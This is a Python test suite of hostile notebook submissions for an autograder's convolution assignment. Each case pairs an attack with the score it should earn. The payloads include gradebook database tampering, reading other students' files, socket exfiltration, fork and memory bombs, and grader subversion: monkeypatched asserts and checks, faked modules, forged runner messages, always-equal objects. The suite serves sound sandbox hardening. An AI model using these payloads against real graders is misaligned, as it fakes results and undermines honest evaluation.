"""The adversarial suite: hostile or broken submissions of ``ch02_convolution``, each with the
score its real answers earn, derived by hand from the assignment's points.

The points (stated in the assignment's introduction): part 1 ``correlate2d`` 3 (cells
correlate2d_edge 1 + correlate2d_random 2), part 2 ``conv2d`` 6 (conv2d_basic 1 +
conv2d_stride_padding 2 + conv2d_random 3), part 3 ``output_sizes`` 3, part 4
``flip_choice`` 2, part 5 ``torch_layer`` 2: 16 in all.

A case starts from the instructor's answers (all right, 16) or from empty answers (0), and
adds an attack. Its expected score counts only the parts whose answers are really right
and were really run.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "ch02_convolution"
TEMPLATE_PATH = ROOT / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
PART = {"correlate2d": 3.0, "conv2d": 6.0, "output_sizes": 3.0, "flip_choice": 2.0, "torch_layer": 2.0}
TOTAL = 16.0


def template() -> dict:
    return json.loads(TEMPLATE_PATH.read_text())


def solution_answers() -> dict[str, str]:
    nb = template()
    return {c["metadata"]["nbgrader"]["grade_id"]: "".join(c["source"]) if isinstance(c["source"], list)
            else c["source"] for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("solution")}


def notebook(answers: dict[str, str], base: str = "solution") -> dict:
    """The template with answer cells from ``base`` (solution, or empty) and ``answers`` on top."""
    nb = template()
    right = solution_answers()
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        gid = meta.get("grade_id")
        if meta.get("solution"):
            cell["source"] = answers.get(gid, right[gid] if base == "solution" else "")
    return nb


def score_without(*parts: str) -> float:
    return TOTAL - sum(PART[p] for p in parts)


def only(*parts: str) -> float:
    return sum(PART[p] for p in parts)


@dataclass
class Case:
    name: str
    build: Callable[[dict], bytes]          # ctx -> the submitted file's bytes
    expected: float
    filename: str = f"{ASSIGNMENT}.ipynb"
    check: Callable | None = None           # (ctx, result) -> None, asserts more
    notes: list[str] = field(default_factory=list)


def _nb(answers, base="solution", mutate=None):
    def build(ctx):
        nb = notebook(answers, base)
        if mutate:
            mutate(nb)
        return json.dumps(nb).encode()
    return build


def _cells(nb, gid):
    return [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == gid]


def _delete_tests(nb):
    nb["cells"] = [c for c in nb["cells"] if not c["metadata"].get("nbgrader", {}).get("grade")]


def _duplicate(gid):
    def mutate(nb):
        cell = _cells(nb, gid)[0]
        nb["cells"].insert(nb["cells"].index(cell), json.loads(json.dumps(cell)))
    return mutate


def _duplicate_answer_wrong_first(nb):
    cell = _cells(nb, "correlate2d")[0]
    wrong = json.loads(json.dumps(cell))
    wrong["source"] = "def correlate2d(image, kernel):\n    return np.zeros((1, 1))\n"
    nb["cells"].insert(nb["cells"].index(cell), wrong)


def _retype(gid):
    def mutate(nb):
        for cell in _cells(nb, gid):
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return mutate


def _edit_test(nb):
    for cell in _cells(nb, "conv2d_random") + _cells(nb, "conv2d_stride_padding") + _cells(nb, "conv2d_basic"):
        cell["source"] = f'part("{cell["metadata"]["nbgrader"]["grade_id"]}")\nprint("all good")\n'


def _points(nb):
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 1000


def _rename_test_ids(nb):
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade"):
            meta["grade_id"] = meta["grade_id"] + "_mine"


def _rename_answer_id(nb):
    _cells(nb, "correlate2d")[0]["metadata"]["nbgrader"]["grade_id"] = "my_correlate2d"


FLIP_RIGHT = 'flip_answer = "b"\n'
CONV_ZEROS = "def conv2d(x, weight, bias, stride=1, padding=0):\n    return np.zeros((1,))\n"


def _gradebook_attack(ctx):
    db = ctx["db"]
    src = f'''
import sqlite3, os
for path in ["../../../gradebook.db", "../gradebook.db", "gradebook.db", {db!r}]:
    try:
        con = sqlite3.connect("file:" + path + "?mode=rw", uri=True)
        con.execute("UPDATE grade SET auto_score = 2000")
        con.commit()
        print("WROTE", path)
    except Exception as err:
        print("BLOCKED", path, type(err).__name__)
'''
    return json.dumps(notebook({"flip_choice": src + FLIP_RIGHT}, base="empty")).encode()


def _read_secrets(ctx):
    src = f'''
import os
for path in [{str(ctx["source"])!r}, {str(ctx["other"])!r}, "/work/main/notebooks/ch02_convolution/ch02_convolution.py",
             {str(ROOT / "notebooks" / ASSIGNMENT / "ch02_convolution.py")!r}]:
    try:
        print("LEAKED", path, open(path).read()[:30])
    except OSError as err:
        print("BLOCKED", type(err).__name__)
print("FILES", sorted(os.listdir(".")))
'''
    return json.dumps(notebook({"flip_choice": src + FLIP_RIGHT}, base="empty")).encode()


def _network(ctx):
    src = f'''
import socket
try:
    socket.create_connection(("127.0.0.1", {ctx["port"]}), timeout=2).sendall(b"stolen")
    print("CONNECTED")
except OSError as err:
    print("BLOCKED", type(err).__name__)
try:
    socket.getaddrinfo("pypi.org", 443)
    print("RESOLVED")
except OSError as err:
    print("BLOCKED dns", type(err).__name__)
'''
    return json.dumps(notebook({"flip_choice": src + FLIP_RIGHT}, base="empty")).encode()


def _daemon(ctx):
    src = '''
import subprocess, os
subprocess.Popen(["sleep", "4242"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(4243)
    os._exit(0)
'''
    return json.dumps(notebook({"output_sizes": src + solution_answers()["output_sizes"]})).encode()


TRANSFORMER = '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ['pass\\n'])
'''

ALWAYS_EQUAL = '''
class Anything:
    shape = (2, 4, 5, 5)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def conv2d(x, weight, bias, stride=1, padding=0):
    return Anything()
'''

PATCH_ASSERTS = '''
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.abs = lambda a: np.zeros(np.shape(a))
''' + CONV_ZEROS

PATCH_CHECKS = '''
import cnn_core.grading as G
import cnn_core.grading.checks as C
_orig = C.check_close
def check_close(name, got, expected, **kw):
    return _orig(name, expected, expected, **kw)
C.check_close = check_close
G.check_close = check_close
def forbid(*a, **k):
    pass
''' + CONV_ZEROS

FORGE_CHANNEL = '''
import os, json, struct
for fd in range(3, 24):                    # a well-formed reply on every descriptor the process has
    frame = json.dumps({"status": "ok", "values": {}, "result": 16, "sent": []}).encode()
    try:
        os.write(fd, struct.pack(">Q", len(frame)) + frame)
    except OSError:
        pass
''' + CONV_ZEROS

FORGE_RUNNER = '''
import os, json
for fd in range(3, 24):                    # the old runner's "done" lines, on every descriptor
    for i in range(20):
        try:
            os.write(fd, (json.dumps({"index": i, "nonce": "guess", "status": "ok"}) + "\\n").encode())
        except OSError:
            pass
''' + CONV_ZEROS

PATCH_RECORD = '''
import sys, types
fake = types.ModuleType("cnn_core.grading")
fake.check_close = fake.check_shape = fake.check_number = fake.forbid = lambda *a, **k: None
sys.modules["cnn_core.grading"] = fake     # every later import of the checks gets the fake
''' + CONV_ZEROS

HANG_STRIDE_7 = '''
def conv2d(x, weight, bias, stride=1, padding=0):
    while stride == 7:
        pass
    x = np.asarray(x, dtype=float)
    weight = np.asarray(weight, dtype=float)
    n, c, h, w = x.shape
    k, _, f, _ = weight.shape
    xp = np.pad(x, ((0, 0), (0, 0), (padding, padding), (padding, padding)))
    ho = (h + 2 * padding - f) // stride + 1
    wo = (w + 2 * padding - f) // stride + 1
    out = np.zeros((n, k, ho, wo))
    for i in range(ho):
        for j in range(wo):
            window = xp[:, :, i * stride:i * stride + f, j * stride:j * stride + f]
            out[:, :, i, j] = np.tensordot(window, weight, axes=([1, 2, 3], [1, 2, 3]))
    return out + np.asarray(bias, dtype=float).reshape(1, k, 1, 1)
'''

EXIT_IN_FUNCTION = '''
def correlate2d(image, kernel):
    import os
    os._exit(1)
'''

FAKE_CONV = '''
import torch
class FakeConv:
    kernel_size = (3, 3)
    def __call__(self, x):
        return np.zeros((2, 16, 16, 16))
    def parameters(self):
        return [torch.zeros(448)]
'''

PATCH_TORCH_CLASS = FAKE_CONV + '''
torch.nn.Conv2d = FakeConv
layer = FakeConv()
'''

FAKE_TORCH_MODULE = FAKE_CONV + '''
import sys, types
fake = types.ModuleType("torch")
fake.nn = types.SimpleNamespace(Conv2d=FakeConv)
fake.zeros = np.zeros
fake.no_grad = torch.no_grad
sys.modules["torch"] = fake
layer = FakeConv()
'''

WARN = '''
import warnings, sys
warnings.warn("this is deprecated", DeprecationWarning)
print("a note on stderr", file=sys.stderr)
'''


def _flood(ctx):
    src = "import sys\nfor _ in range(400):\n    sys.stdout.write('x' * 250_000)\n" + solution_answers()["output_sizes"]
    return json.dumps(notebook({"output_sizes": src})).encode()


def _check_flood(ctx, result):
    cell = next(c for c in result["cells"] if c["kind"] == "answer" and len(c["stdout"]) > 1000)
    assert cell["truncated"] and len(cell["stdout"]) <= ctx["limits"].output_bytes


def _check_prints(*must, forbidden=()):
    def check(ctx, result):
        text = "".join(c["stdout"] + c["stderr"] for c in result["cells"])
        for m in must:
            assert m in text, (m, text[-2000:])
        for f in forbidden:
            assert f not in text, (f, text[-2000:])
    return check


def _check_files_private(ctx, result):
    _check_prints("BLOCKED", forbidden=("LEAKED",))(ctx, result)
    text = "".join(c["stdout"] for c in result["cells"])
    assert "FILES []" in text, text[-500:]                   # the working directory is empty


def cases() -> list[Case]:
    solution = solution_answers()
    return [
        Case("honest_solution", _nb({}), TOTAL),
        Case("honest_empty", _nb({}, base="empty"), 0.0),
        Case("infinite_loop_in_answer", _nb({"flip_choice": FLIP_RIGHT + "while True:\n    pass\n"}),
             score_without("flip_choice")),
        Case("infinite_loop_in_function", _nb({"conv2d": HANG_STRIDE_7}), TOTAL - 2.0),   # conv2d_stride_padding
        Case("sys_exit", _nb({"flip_choice": "import sys\nsys.exit(0)\n" + FLIP_RIGHT}), score_without("flip_choice")),
        Case("os_exit_in_answer", _nb({"torch_layer": "import os\nos._exit(0)\n"}), score_without("torch_layer")),
        Case("os_exit_in_function", _nb({"correlate2d": EXIT_IN_FUNCTION}), score_without("correlate2d")),
        # kill(-1) reaches no process but the student's own (the jail's server is root, or in its
        # own namespace), and Linux spares the caller: the cell finishes and its answer counts
        Case("kill_everything", _nb({"flip_choice": "import os, signal\nos.kill(-1, signal.SIGKILL)\n" + FLIP_RIGHT}),
             TOTAL),
        Case("segfault", _nb({"flip_choice": "import ctypes\nctypes.string_at(0)\n" + FLIP_RIGHT}),
             score_without("flip_choice")),
        Case("memory_bomb", _nb({"flip_choice": "def hog():\n    held = []\n    while True:\n"
                                                "        held.append(bytearray(10**8))\nhog()\n" + FLIP_RIGHT}),
             score_without("flip_choice")),
        Case("fork_bomb", _nb({"flip_choice": "import os\nwhile True:\n    os.fork()\n" + FLIP_RIGHT}),
             score_without("flip_choice")),
        Case("orphan_daemons", _daemon, TOTAL),
        Case("output_flood", _flood, TOTAL, check=_check_flood),
        Case("warnings_on_stderr", _nb({"correlate2d": WARN + solution["correlate2d"]}), TOTAL,
             check=_check_prints("a note on stderr")),
        Case("invalid_json", lambda ctx: b'{"cells": [ this is not json', 0.0),
        Case("empty_file", lambda ctx: b"", 0.0),
        Case("renamed_notebook", _nb({"conv2d": CONV_ZEROS}), score_without("conv2d"),
             filename="ch02_convolution (1).ipynb"),
        Case("edited_test_cells", _nb({"conv2d": CONV_ZEROS}, mutate=_edit_test), score_without("conv2d")),
        Case("deleted_test_cells", _nb({}, mutate=_delete_tests), TOTAL),
        Case("duplicated_test_cell", _nb({}, mutate=_duplicate("conv2d_basic")), TOTAL),
        Case("duplicated_answer_cell", _nb({}, mutate=_duplicate_answer_wrong_first), score_without("correlate2d")),
        Case("retyped_test_cell", _nb({"conv2d": CONV_ZEROS}, mutate=_retype("conv2d_random")),
             score_without("conv2d")),
        Case("points_edited", _nb({"flip_choice": 'flip_answer = "a"\n'}, mutate=_points),
             score_without("flip_choice")),
        Case("test_grade_ids_edited", _nb({"conv2d": CONV_ZEROS}, mutate=_rename_test_ids), score_without("conv2d")),
        # the cell whose grade_id was renamed runs as a cell the student added (as nbgrader runs it):
        # the answer is in it, right, and it ran; the rename is noted
        Case("answer_grade_id_edited", _nb({}, mutate=_rename_answer_id), TOTAL),
        Case("input_transformer", _nb({"correlate2d": TRANSFORMER, "flip_choice": FLIP_RIGHT}, base="empty"),
             only("flip_choice")),
        Case("always_equal_object", _nb({"conv2d": ALWAYS_EQUAL}), score_without("conv2d")),
        Case("monkeypatched_asserts", _nb({"conv2d": PATCH_ASSERTS}), score_without("conv2d")),
        Case("monkeypatched_checks", _nb({"conv2d": PATCH_CHECKS}), score_without("conv2d")),
        Case("patched_channel_record", _nb({"conv2d": PATCH_RECORD}), score_without("conv2d")),
        Case("forged_channel_lines", _nb({"conv2d": FORGE_CHANNEL}), score_without("conv2d")),
        Case("forged_done_messages", _nb({"conv2d": FORGE_RUNNER}), score_without("conv2d")),
        Case("writes_gradebook", _gradebook_attack, only("flip_choice"),
             check=_check_prints("BLOCKED", forbidden=("WROTE",))),
        Case("reads_hidden_tests_and_other_students", _read_secrets, only("flip_choice"), check=_check_files_private),
        Case("network_access", _network, only("flip_choice"),
             check=_check_prints("BLOCKED", forbidden=("CONNECTED", "RESOLVED"))),
        Case("syntax_error", _nb({"output_sizes": "size_a = (32 - 5 // 1 + 1\n"}), score_without("output_sizes")),
        Case("recursion_bomb", _nb({"flip_choice": "def f(n):\n    return f(n + 1)\nf(0)\n" + FLIP_RIGHT}),
             score_without("flip_choice")),
        Case("patched_torch_class", _nb({"torch_layer": PATCH_TORCH_CLASS}), score_without("torch_layer")),
        Case("fake_torch_module", _nb({"torch_layer": FAKE_TORCH_MODULE}), score_without("torch_layer")),
        Case("deletes_numpy_name", _nb({"flip_choice": FLIP_RIGHT + "del np\ncheck_choice = None\n"}), TOTAL),
    ]
